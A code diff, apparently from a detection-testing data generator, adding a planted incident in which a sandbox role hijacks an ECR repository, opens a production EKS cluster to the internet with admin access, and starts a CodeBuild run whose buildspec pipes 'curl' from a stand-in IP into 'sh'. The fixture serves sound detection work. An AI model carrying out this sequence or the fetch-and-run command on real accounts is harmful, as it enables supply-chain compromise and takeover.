@@ -1,5 +1,5 @@
 /**
- * The twenty-one planted incidents (what the bundled runbooks detect), within the last 12 hours
+ * The twenty-two planted incidents (what the bundled runbooks detect), within the last 12 hours
  * before the window's end. Each incident is one function; they run in a fixed order because they share
  * one random stream (same seed, same bytes).
  */
@@ -884,6 +884,118 @@ function signInPersistence({ at, ctx, call }: Plant): Ev[] {
   ];
 }
 
+/** The other account of incident 22's repository policy. */
+const OUTSIDE_ACCOUNT = "444455556666";
+
+/**
+ * 22. Container registry, cluster and build project hijacked (build-and-registry): eve's sandbox
+ * role lets another account pull the payments-api repository, makes its tags mutable, turns its
+ * scan on push off and pushes an image over `latest`; opens the prod EKS cluster's API endpoint to
+ * the internet and makes its own role a cluster admin through an access entry; makes the
+ * payments-api CodeBuild project public and starts a build with a buildspec of its own.
+ */
+function buildAndRegistry({ at, ctx, write, ec2Region }: Plant): Ev[] {
+  const step = (i: number) => ctx(at(0.72, i * 25_000), ec2Region);
+  return [
+    ...registryHijack(step, write),
+    ...clusterOpened((i) => step(4 + i), write),
+    ...buildHijack((i) => step(7 + i), write),
+  ];
+}
+
+/** Incident 22's registry part: a policy for another account, mutable tags, no scan, a push. */
+function registryHijack(step: (i: number) => Ctx, write: Plant["write"]): Ev[] {
+  const ecr = (name: string, params: unknown) => write("ecr.amazonaws.com", name, params);
+  const repositoryName = "payments-api";
+  const policyText = JSON.stringify({
+    Version: "2012-10-17",
+    Statement: [
+      {
+        Sid: "pull",
+        Effect: "Allow",
+        Principal: { AWS: `arn:aws:iam::${OUTSIDE_ACCOUNT}:root` },
+        Action: ["ecr:BatchGetImage", "ecr:GetDownloadUrlForLayer"],
+      },
+    ],
+  });
+  return [
+    baseEvent(step(0), EVE, ecr("SetRepositoryPolicy", { repositoryName, policyText })),
+    baseEvent(
+      step(1),
+      EVE,
+      ecr("PutImageTagMutability", { repositoryName, imageTagMutability: "MUTABLE" }),
+    ),
+    baseEvent(
+      step(2),
+      EVE,
+      ecr("PutImageScanningConfiguration", {
+        repositoryName,
+        imageScanningConfiguration: { scanOnPush: false },
+      }),
+    ),
+    baseEvent(
+      step(3),
+      EVE,
+      ecr("PutImage", {
+        repositoryName,
+        imageTag: "latest",
+        imageManifestMediaType: "application/vnd.docker.distribution.manifest.v2+json",
+      }),
+    ),
+  ];
+}
+
+/** Incident 22's cluster part: the endpoint opened to the world, eve's role made cluster admin. */
+function clusterOpened(step: (i: number) => Ctx, write: Plant["write"]): Ev[] {
+  const eks = (name: string, params: unknown) => write("eks.amazonaws.com", name, params);
+  const principalArn = `arn:aws:iam::${ACCOUNT}:role/dev-sandbox`;
+  return [
+    baseEvent(
+      step(0),
+      EVE,
+      eks("UpdateClusterConfig", {
+        name: "prod",
+        resourcesVpcConfig: { endpointPublicAccess: true, publicAccessCidrs: ["0.0.0.0/0"] },
+      }),
+    ),
+    baseEvent(step(1), EVE, eks("CreateAccessEntry", { clusterName: "prod", principalArn })),
+    baseEvent(
+      step(2),
+      EVE,
+      eks("AssociateAccessPolicy", {
+        clusterName: "prod",
+        principalArn,
+        policyArn: "arn:aws:eks::aws:cluster-access-policy/AmazonEKSClusterAdminPolicy",
+        accessScope: { type: "cluster" },
+      }),
+    ),
+  ];
+}
+
+/** Incident 22's build part: the project made public, a build with eve's own buildspec. */
+function buildHijack(step: (i: number) => Ctx, write: Plant["write"]): Ev[] {
+  const cb = (name: string, params: unknown) => write("codebuild.amazonaws.com", name, params);
+  return [
+    baseEvent(
+      step(0),
+      EVE,
+      cb("UpdateProjectVisibility", {
+        projectArn: `arn:aws:codebuild:us-east-1:${ACCOUNT}:project/payments-api`,
+        projectVisibility: "PUBLIC_READ",
+      }),
+    ),
+    baseEvent(
+      step(1),
+      EVE,
+      cb("StartBuild", {
+        projectName: "payments-api",
+        buildspecOverride:
+          "version: 0.2\nphases:\n  build:\n    commands:\n      - curl -s https://203.0.113.66/x | sh\n",
+      }),
+    ),
+  ];
+}
+
 /** In this order: each draws from the shared random stream (a new one goes last). */
 const INCIDENTS = [
   rootActivity,
@@ -907,6 +1019,7 @@ const INCIDENTS = [
   leakedKeyRecon,
   networkPaths,
   signInPersistence,
+  buildAndRegistry,
 ];
 
 /** The planted incidents, in time order, within the last 12 hours before `end`. */
